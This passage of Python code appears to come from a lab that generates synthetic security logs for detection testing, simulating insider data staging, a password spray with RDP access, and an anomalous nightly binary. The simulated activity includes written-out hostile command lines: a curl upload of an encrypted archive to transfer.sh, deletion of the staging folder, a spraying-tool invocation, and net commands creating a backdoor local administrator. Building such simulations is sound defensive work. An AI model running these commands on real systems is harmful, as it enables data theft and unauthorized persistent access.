                ctx.connect(at + 100_000, robo, fs.ip, 445, dst_host=fs.fqdn)
                with ctx.technique("T1074.001"):
                    for i in range(ctx.rng.randint(25, 45)):
                        ctx.file(
                            at + (i + 1) * 400_000,
                            robo,
                            f"{state['stage']}\\{share}\\"
                            f"{ctx.rng.choice(DOC_NAMES)} {2020 + i % 7}.{ctx.rng.choice(('xlsx', 'docx', 'pdf'))}",
                        )
                at += 40 * SECOND
                ctx.exit(at, robo)
        with ctx.technique("T1560.001"):
            z = ctx.run(
                at + 30 * SECOND,
                shell,
                "7z",
                f'"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mhe=on '
                f'-p{state["password"]} "{state["archive"]}" "{state["stage"]}\\*"',
                session,
                seconds=70,
            )
            ctx.file(at + 35 * SECOND, z, state["archive"])
        at += 3 * MINUTE
        with ctx.technique("T1567.002"):
            name = state["archive"].rsplit("\\", 1)[-1]
            curl = ctx.run(
                at,
                shell,
                "curl",
                f'curl.exe -s -T "{state["archive"]}" https://transfer.sh/{name}',
                session,
                seconds=240,
            )
            ctx.dns(at + 100_000, curl, "transfer.sh", "144.76.136.153")
            for i in range(4):
                ctx.connect(at + 300_000 + i * 30 * SECOND, curl, "144.76.136.153", 443, dst_host="transfer.sh")
        with ctx.technique("T1070.004"):
            ctx.run(at + 5 * MINUTE, shell, "cmd", f'cmd /c rmdir /s /q "{state["stage"]}"', session)
        ctx.exit(at + 6 * MINUTE, shell)

    @staticmethod
    def share_reads(ctx: DeviceDay, ts: int, user: Account, src: Device) -> None:
        with ctx.technique("T1039"):
            fileshare_visit(ctx, ts, user, src, "Finance", ctx.rng.randint(25, 45))
            fileshare_visit(ctx, ts + 40 * SECOND, user, src, "HR", ctx.rng.randint(25, 45))


# -- 5. password spray leading to RDP --------------------------------------------------------------------
class PasswordSpray:
    name = "password_spray"
    title = "Password spray against the internet-facing RDP host, then an RDP session and a local backdoor account"
    kind = "attack"
    tactics = ("credential-access", "initial-access", "lateral-movement", "discovery", "persistence")
    techniques = (
        "T1110.003",
        "T1078.002",
        "T1021.001",
        "T1033",
        "T1087.001",
        "T1087.002",
        "T1018",
        "T1136.001",
        "T1098",
    )
    description = (
        "At night one outside address tries one password against dozens of accounts on the RDP host (failed "
        "network logons there, failed NTLM validations on the DC); one account works, the attacker logs on over "
        "RDP, looks around and creates a local administrator account for later."
    )

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan:
        org = window.org
        rds = org.by_role("rds")[0]
        day = rng.randrange(window.days)
        start = window.day_start(day) + rng.randint(1 * HOUR, 3 * HOUR)
        free = {d.owner.name for d in org.workstations if d.owner and d.name not in window.taken}
        victims = [u for u in org.users if u.local_admin and u.department != "IT" and u.name in free]
        victims = victims or [u for u in org.users if u.name in free] or list(org.users)
        victim = rng.choice(victims)
        names = [u.name for u in rng.sample(org.users, k=min(len(org.users), rng.randint(30, 60)))]
        names += [  # the usual guesses from a spraying tool's list
            "administrator",
            "admin",
            "test",
            "user",
            "scanner",
            "backup",
            "guest",
            "support",
            "helpdesk",
            "reception",
            "training",
            "temp",
            "sql",
            "ftp",
            "itadmin",
            "office",
            "demo",
            "scan",
        ]
        real = {u.name for u in org.users}
        guessed = {f"{rng.choice(FIRST_NAMES)}.{rng.choice(LAST_NAMES)}" for _ in range(25)} - real
        names += sorted(guessed)  # names scraped from the web, many of them wrong
        rng.shuffle(names)
        if victim.name in names:
            names.remove(victim.name)
        names.insert(rng.randint(2 * len(names) // 3, len(names)), victim.name)
        source = _public_ip(rng, (5, 45, 77, 185, 193))
        workstation = f"WIN-{_rand_name(rng, 11, string.ascii_uppercase + string.digits)}"
        plan = ScenarioPlan(self.name, accounts=[victim.qualified, f"{rds.name}\\support_tmp"])
        at = start
        for name in names:
            known = any(u.name == name for u in org.users)
            if name == victim.name:
                plan.add(org.dc, at, self.dc_validate, name, workstation, "0x0", technique="T1078.002")
                plan.add(rds, at + 300_000, self.rdp_session, victim, source, workstation, technique="T1021.001")
                # follow-on: from the RDP host, a Kerberos pre-auth spray against the domain controller
                spray_at = at + rng.randint(20, 30) * MINUTE
                internal = [u for u in rng.sample(org.users, k=min(len(org.users), 40)) if u != victim]
                plan.add(rds, spray_at, self.kerberos_spray_tool, victim, len(internal), technique="T1110.003")
                for i, user in enumerate(internal):
                    plan.add(
                        org.dc,
                        spray_at + (i + 1) * 700_000,
                        self.kerberos_preauth_failed,
                        user,
                        rds,
                        technique="T1110.003",
                    )
                break
            plan.add(rds, at, self.failed, name, source, workstation, known, technique="T1110.003")
            plan.add(
                org.dc,
                at + 50_000,
                self.dc_validate,
                name,
                workstation,
                "0xc000006a" if known else "0xc0000064",
                technique="T1110.003",
            )
            at += rng.randint(4, 20) * SECOND
        return plan

    @staticmethod
    def kerberos_spray_tool(ctx: DeviceDay, ts: int, victim: Account, attempts: int) -> None:
        """A spraying tool dropped in the RDP session, hammering the DC's Kerberos port."""
        shell = ctx.host.lab.get("spray_shell")
        if shell is None:
            return
        path = f"C:\\Users\\{victim.name}\\Music\\kb.exe"
        ctx.file(ts - MINUTE, ctx.proc("svc_termservice"), path)  # pasted over the RDP clipboard
        tool = ctx.spawn(
            ts,
            shell,
            adhoc_binary(path),
            f"{path} passwordspray -d {ctx.domain.dns} --dc {ctx.org.dc.fqdn} users.txt Winter2026!",
            shell.session,
            integrity="High",
        )
        for i in range(attempts):
            ctx.connect(ts + (i + 1) * 700_000 - 50_000, tool, ctx.org.dc.ip, 88, dst_host=ctx.org.dc.fqdn)
        ctx.exit(ts + (attempts + 2) * 700_000, tool)

    @staticmethod
    def kerberos_preauth_failed(ctx: DeviceDay, ts: int, user: Account, src: Device) -> None:
        ctx.preauth_failed(ts, user.name, user.sid, src.ip)

    @staticmethod
    def failed(ctx: DeviceDay, ts: int, name: str, source: str, workstation: str, known: bool) -> None:
        ctx.logon_failed(
            ts,
            name,
            ctx.domain.netbios,
            3,
            sub_status="0xc000006a" if known else "0xc0000064",
            ip=source,
            port="0",
            workstation=workstation,
        )

    @staticmethod
    def dc_validate(ctx: DeviceDay, ts: int, name: str, workstation: str, status: str) -> None:
        ctx.ntlm_validation(ts, name, workstation, status)

    @staticmethod
    def rdp_session(ctx: DeviceDay, ts: int, victim: Account, source: str, workstation: str) -> None:
        net = ctx.new_session(victim, 3, ts, src_ip=source)
        ctx.logon(ts, net, ip=source, port="0", workstation=workstation, package="NTLM")
        session = ctx.new_session(victim, 10, ts + 4 * SECOND, src_ip=source, elevated=True, terminal=3)
        session.end = ts + 50 * MINUTE
        ctx.logon(
            ts + 4 * SECOND,
            session,
            ip=source,
            port="0",
            workstation=workstation,
            package="Negotiate",
            process="C:\\Windows\\System32\\svchost.exe",
            process_id=1180,
            elevated=True,
        )
        userinit = ctx.spawn(
            ts + 6 * SECOND, ctx.proc("winlogon"), "userinit", "C:\\Windows\\system32\\userinit.exe", session
        )
        explorer = ctx.spawn(ts + 7 * SECOND, userinit, "explorer", "C:\\Windows\\Explorer.EXE", session)
        ctx.exit(ts + 9 * SECOND, userinit)
        clip = ctx.spawn(ts + 10 * SECOND, ctx.proc("svc_termservice"), "rdpclip", "rdpclip", session)
        shell = ctx.spawn(
            ts + 3 * MINUTE, explorer, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', session, integrity="High"
        )
        at = ts + 3 * MINUTE + 20 * SECOND
        steps = [
            ("T1033", "whoami", "whoami /priv"),
            ("T1087.001", "net", "net localgroup administrators"),
            ("T1087.002", "net", "net user /domain"),
            ("T1018", "net", "net view"),
            ("T1136.001", "net", "net user support_tmp Sup0rt!2026 /add"),
            ("T1098", "net", "net localgroup administrators support_tmp /add"),
        ]
        for technique, binary, cmdline in steps:
            with ctx.technique(technique):
                tool = ctx.run(at, shell, binary, cmdline, session, seconds=1, integrity="High")
                if binary == "net":
                    ctx.run(
                        at + 60_000,
                        tool,
                        "net1",
                        "C:\\Windows\\system32\\net1 " + cmdline.split(" ", 1)[1],
                        session,
                        seconds=0.5,
                        integrity="High",
                    )
                if cmdline.endswith("/add") and "localgroup" not in cmdline:
                    ctx.user_created(at + 500_000, session, "support_tmp", 1009, "", domain=ctx.device.name)
                    state_sid = f"S-1-5-21-{ctx.device.index + 1000}-1009"
                    ctx.host.lab["spray_sid"] = state_sid
                elif "localgroup administrators support_tmp" in cmdline:
                    ctx.group_member_added(
                        at + 500_000, session, "-", ctx.host.lab.get("spray_sid", "-"), "Administrators", "S-1-5-32-544"
                    )
            at += ctx.rng.randint(10, 60) * SECOND
        ctx.host.lab["spray_shell"] = shell
        ctx.exit(session.end - 2 * SECOND, shell)
        ctx.exit(session.end - SECOND, clip)
        ctx.exit(session.end, explorer)
        ctx.logoff(session.end + SECOND, session)
        ctx.logoff(session.end + 2 * SECOND, net)


# -- 6. behaviour change for anomaly models -----------------------------------------------------------
class BehaviourChange:
    name = "behaviour_change"
    title = "A new, rare binary chain starts running at night on one device"
    kind = "anomaly"
    tactics: tuple[str, ...] = ()
    techniques: tuple[str, ...] = ()
    description = (
        "From one day on, a workstation runs an unfamiliar, unsigned program (installed in its own folder at the "
        "root of C: before the window, as line-of-business tools often are) from the task scheduler, twice a "
        "night between 02:00 and 05:00; it starts a helper, writes cache files and talks to a domain nobody else "
        "uses. No LOLBin, no encoding, no user-writable folder, no persistence change in the window: only its "
        "novelty and timing stand out."
    )

    def plan(self, window: LabWindow, rng: random.Random) -> ScenarioPlan:
        device = window.pick_workstation(rng)
        first = window.days // 2
        vendor = rng.choice(("SyncHelper", "DocBridge", "PrintAgentX", "MediaIndex"))
        state = {
            "dir": f"C:\\{vendor}",
            "main": f"{vendor.lower()}.exe",
            "helper": "hsvc.exe",
            "domain": f"telemetry.{vendor.lower()}-cloud.net",
            "ip": f"104.{rng.randint(16, 31)}.{rng.randint(1, 254)}.{rng.randint(2, 254)}",
        }
        plan = ScenarioPlan(self.name, accounts=[f"{window.org.domain.netbios}\\{device.machine_account}"])
        for d in range(first, window.days):
            at = window.day_start(d) + rng.randint(2 * HOUR, 3 * HOUR)
            plan.add(device, at, self.night_run, state)
            plan.add(device, at + rng.randint(50, 110) * MINUTE, self.night_run, state)
        return plan

    @staticmethod
    def night_run(ctx: DeviceDay, ts: int, state: dict[str, str]) -> None:
        main = ctx.spawn(
            ts,
            ctx.proc("svc_schedule"),
            adhoc_binary(f"{state['dir']}\\{state['main']}"),
            f'"{state["dir"]}\\{state["main"]}" --scheduled',
            ctx.system,
        )
        helper = ctx.spawn(
            ts + 3 * SECOND,
            main,
            adhoc_binary(f"{state['dir']}\\{state['helper']}"),
            f'"{state["dir"]}\\{state["helper"]}" --collect --index',
            ctx.system,
        )
        for i in range(ctx.rng.randint(6, 14)):
            ctx.file(ts + (5 + i) * SECOND, helper, f"{state['dir']}\\cache\\{ctx.rng.getrandbits(40):010x}.dat")
        ctx.dns(ts + 30 * SECOND, helper, state["domain"], state["ip"])
        at = ts + 31 * SECOND
        for _ in range(ctx.rng.randint(2, 5)):  # uploads as the index needs them, not on a timer
            ctx.connect(at, helper, state["ip"], 443, dst_host=state["domain"])
            at += ctx.rng.randint(1_500_000, 40 * SECOND)
        ctx.exit(max(at, ts + 2 * MINUTE), helper)
        ctx.exit(max(at, ts + 2 * MINUTE) + SECOND, main)


SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        CommodityMalware(),
        RansomwarePrecursor(),
        EspionageLolbins(),
        InsiderStaging(),
        PasswordSpray(),
        BehaviourChange(),
    )
}
ATTACK_SCENARIOS: tuple[str, ...] = tuple(name for name, s in SCENARIOS.items() if s.kind == "attack")
